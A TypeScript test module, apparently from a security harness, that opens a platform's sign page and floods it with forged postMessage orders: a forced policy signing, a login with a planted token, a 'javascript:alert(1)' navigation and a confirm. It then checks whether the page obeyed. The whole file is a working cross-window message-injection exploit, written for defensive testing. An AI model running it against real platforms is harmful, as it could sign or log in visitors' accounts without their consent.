import type { ThemeAttack } from '../../attack.ts';

export const attack: ThemeAttack = {
  kind: 'theme',
  gain: 'the platform’s page obeys what a theme tells it',
  instead: 'no message reaches it, and nothing happens to the visitor’s account',
  expected: { sent: true, landed: true },
  async run({ platform, baitId, baitPolicyId }, { page, wait }) {
    const opened = page.open(`${platform}/sign?subjectId=${baitId}&subjectType=2&policyId=${baitPolicyId}`);
    const orders = [
      { type: 'sign', subjectId: baitId, policyId: baitPolicyId },
      { type: 'login', token: 'planted' },
      { type: 'navigate', url: 'javascript:alert(1)' },
      'confirm',
    ];
    for (let round = 0; round < 8; round += 1) {
      for (const order of orders) opened?.postMessage(order, '*');
      await wait(250);
    }
    return { sent: opened !== null };
  },
  async look({ aim, context }, page) {
    return { landed: context.pages().some((one) => one !== page && one.url().startsWith(`${aim.platform}/sign`)) };
  },
};
